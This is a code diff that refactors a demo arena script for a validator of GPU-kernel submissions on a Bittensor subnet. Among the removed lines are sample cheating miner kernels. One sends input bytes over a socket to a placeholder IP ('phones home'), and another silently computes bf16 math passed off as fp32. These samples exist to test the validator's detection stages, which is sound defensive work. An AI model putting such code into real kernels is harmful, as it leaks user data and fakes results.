@@ -17,69 +17,13 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 
-from ..authoring.template import bundle_files
-from ..bundle import bundle_from_files, pack
-from ..ledger import NEXT, State
-from ..qualify.rule import NOT_SHOWN
+from ..ledger import NEXT
+from ..validator.evidence import recorded
+from .miners import MINERS, Miner, bundle_of
 
 NETUID = 7
 WEIGHTS_EVERY = 20
 Report = Callable[[str], None]
-
-BROKEN = """\
-\"\"\"Forgets the up projection: returns silu(gate) instead of silu(gate) * up.\"\"\"
-
-import torch
-
-
-def silu_and_mul(x, out):
-    d = out.shape[-1]
-    out.copy_(torch.nn.functional.silu(x[:, :d].float()))
-"""
-DOWNGRADE = """\
-\"\"\"Cheat: computes in bf16 whatever dtype was asked for (twice as fast on a GPU, wrong in fp32).\"\"\"
-
-import torch
-
-
-def silu_and_mul(x, out):
-    d = out.shape[-1]
-    xb = x.to(torch.bfloat16)
-    out.copy_(torch.nn.functional.silu(xb[:, :d]) * xb[:, d:])
-"""
-EXFILTRATE = """\
-\"\"\"Cheat: phones home with whatever it can read, then does the honest work.\"\"\"
-
-import socket
-
-import torch
-
-
-def silu_and_mul(x, out):
-    socket.create_connection(("203.0.113.7", 443), timeout=1).sendall(x.numpy().tobytes()[:64])
-    d = out.shape[-1]
-    out.copy_(torch.nn.functional.silu(x[:, :d].float()) * x[:, d:].float())
-"""
-
-
-@dataclass(frozen=True)
-class Miner:
-    """One demo miner: what it commits, and where the validator is expected to stop it (None: it is scored)."""
-
-    name: str
-    role: str
-    kernel: str | None
-    """Kernel source replacing the template's (None: the template from `hotfloat new` as written)."""
-    expected_stage: str | None
-    """The stage expected to FAIL it, or None when it should pass admission and reach qualification."""
-
-
-MINERS = (
-    Miner("alice", "honest: `hotfloat new --slot activation.silu_and_mul`", None, None),
-    Miner("bob", "broken: forgets the up projection", BROKEN, "admit"),
-    Miner("carol", "cheating: bf16 math passed off as fp32", DOWNGRADE, "admit"),
-    Miner("dave", "cheating: sends inputs over the network", EXFILTRATE, "scan"),
-)
 
 
 @dataclass
@@ -98,6 +42,8 @@ class Row:
     weight: float = 0.0
     expected: str = ""
     as_expected: bool = False
+    not_shown: bool = False
+    """The rule failed it on speed without showing it slower (a CPU's noise can hide a real speed-up)."""
 
 
 @dataclass
@@ -108,15 +54,6 @@ class Outcome:
     weights: dict[int, int]
     settings: list[str]
     seconds: float = 0.0
-
-
-def bundle_of(miner: Miner) -> tuple[str, bytes]:
-    """The miner's identity and deterministic archive: the template, with the miner's kernel swapped in."""
-    files = {k: v.encode() for k, v in bundle_files("activation.silu_and_mul", f"{miner.name}-silu").items()}
-    if miner.kernel is not None:
-        files["kernels/silu_and_mul.py"] = miner.kernel.encode()
-    bundle = bundle_from_files(files)
-    return bundle.identity, pack(bundle)
 
 
 class Origin:
@@ -160,11 +97,10 @@ class Origin:
 
 def services_config(handicap: int):
     """Demo-sized service settings, each printed by `settings` so nobody mistakes them for a validator's."""
-    from hotfloat_services.serve import ServiceConfig
-
     from ..qualify import RuleConfig
+    from ..validator import StageConfig
 
-    return ServiceConfig(
+    return StageConfig(
         verify_max_shapes=2, verify_dtypes=("fp32", "bf16"),
         qualify_rule=RuleConfig(logprob_tol=1e-3, drift_bound=5.0, look_rounds=3, max_looks=2),
         qualify_extra_passes=(("B", handicap),) if handicap else ())
@@ -205,15 +141,12 @@ def run_arena(root: Path, handicap: int, report: Report) -> Outcome:
 
     import bittensor as bt
     from hotfloat_services.serve import start
-    from hotfloat_services.validator.clients import StageClients
+    from hotfloat_services.validator.node import Validator
 
     from ..chain.client import Chain
-    from ..chain.cycle import ChainCycle
-    from ..chain.fetch import FetchPolicy
     from ..chain.miner import commitment
     from ..chain.standin import LocalSubstrate
-    from ..chain.tables import open_ledger
-    from ..validator import Pipeline
+    from ..validator.config import ChainSettings, ValidatorConfig
     from ..validator.standings import crowns, scores
 
     started = time.monotonic()
@@ -246,38 +179,38 @@ def run_arena(root: Path, handicap: int, report: Report) -> Outcome:
             report(f"miner {m.name} (uid {uid}, {m.role}): committed {identity[:16]} with its archive's https URL")
         LocalSubstrate(chain_path).advance(3)  # past the finality lag, so intake sees every commitment
 
-        token = secrets.token_urlsafe(32)
-        config = services_config(handicap)
+        token_file = root / "token"
+        token_file.touch(mode=0o600)
+        token_file.write_text(secrets.token_urlsafe(32))
         targets = {}
         for name in ("compiler", "admission", "qualification"):
-            running = start(name, str(root / f"{name}.sock"), token=token, config=config)
+            running = start(name, str(root / f"{name}.sock"), token=token_file.read_text(), config=services_config(handicap))
             stack.callback(running.stop, 0)
             targets[name] = running.target
         report(f"services: compiler, admission and qualification on Unix sockets in {root}")
         for line in settings(handicap):
             report(f"  demo setting: {line}")
 
-        led = open_ledger(str(root / "validator.db"))
-        stack.callback(led.close)
-        clients = StageClients(targets["compiler"], targets["admission"], targets["qualification"], token=token)
-        stack.callback(clients.close)
-        cycle = ChainCycle(chain, led, NETUID, wallets["validator"], weights_every=WEIGHTS_EVERY,
-                           policy=FetchPolicy(cafile=origin.cafile, allow_private=True), report=report)
-        cycle.check()
+        chain_settings = ChainSettings(network=network, netuid=NETUID, wallet="validator", wallet_path=str(root / "wallets"),
+                                       weights_every=WEIGHTS_EVERY, cafile=origin.cafile, allow_private=True)
+        config = ValidatorConfig(ledger=str(root / "validator.db"), stages="remote", compiler=targets["compiler"],
+                                 admission=[targets["admission"]], qualification=[targets["qualification"]],
+                                 token_file=str(token_file), through="scored", max_attempts=2, chain=chain_settings)
         names = {}
 
         def event(sid: int, stage: str, message: str) -> None:
             if sid not in names:
-                names[sid] = rows.get(led.get(sid).submitter, Row("?", 0, "")).miner
+                names[sid] = rows.get(node.ledger.get(sid).submitter, Row("?", 0, "")).miner
             report(f"validator: #{sid} {names[sid]} {stage}: {message}")
 
-        Pipeline(led, clients, through=State.SCORED, workers=2, max_attempts=2, on_event=event).run(drain=True,
-                                                                                                     cycle=cycle)
+        node = stack.enter_context(Validator(config, on_event=event, report=report))
+        node.run()
         LocalSubstrate(chain_path).advance(WEIGHTS_EVERY)  # a fresh window of blocks: the settled crowns publish now
-        cycle()
+        node.cycle()
         weights, _ = chain.weights_row(NETUID, 0)
         report(f"weights: the validator's row on chain is {dict(sorted(weights.items())) or 'empty (nothing crowned)'}")
 
+        led = node.ledger
         kept = {led.get(sid).identity: score for sid, (_, score) in scores(led).items()}
         held = {}
         for crown in crowns(led).values():
@@ -287,11 +220,11 @@ def run_arena(root: Path, handicap: int, report: Report) -> Outcome:
             row = rows[sub.submitter]
             row.state, row.reason, row.score = sub.state.value, sub.reason, kept.get(sub.identity)
             row.crown = held.get(sub.identity) or ""
-            for t in led.transitions(sub.id):
-                if t.from_state is not None:
-                    stage = NEXT[t.from_state][0]
-                    forward = (t.evidence or {}).get("status") or "PASS"  # build of python-only ops is N/A
-                    row.stages[stage] = {State.FAILED: "FAIL", State.NO_DECISION: "NO_DECISION"}.get(t.to_state, forward)
+            for t in led.transitions(sub.id)[1:]:
+                evidence, stage = recorded(t), NEXT[t.from_state][0]
+                decided = {"failed": "FAIL", "no_decision": "NO_DECISION"}.get(t.to_state.value)
+                row.stages[stage] = decided or evidence.status.value  # a build of python-only ops is N/A
+                row.not_shown = row.not_shown or (stage == "qualify" and evidence is not None and _not_shown(evidence))
         for row in rows.values():
             row.weight = weights.get(row.uid, 0) / total
             row.as_expected = _as_expected(row, next(m for m in MINERS if m.name == row.miner), handicap)
@@ -309,6 +242,12 @@ def _as_expected(row: Row, miner: Miner, handicap: int) -> bool:
         return False
     qualified = (row.stages.get("qualify"), row.stages.get("score"))
     allowed = {("PASS", "PASS"), ("NO_DECISION", None), ("PASS", "NO_DECISION")}
-    if not handicap or NOT_SHOWN in row.reason:
+    if not handicap or row.not_shown:
         allowed |= {("FAIL", None)}
     return qualified in allowed
+
+
+def _not_shown(evidence) -> bool:
+    """A correct run the rule failed on speed with the margin still inside its interval: not shown faster."""
+    d = evidence.record.decision
+    return d.status == "FAIL" and d.gate == "PASS" and d.fault is None and (d.upper or 0) >= evidence.record.rule.margin
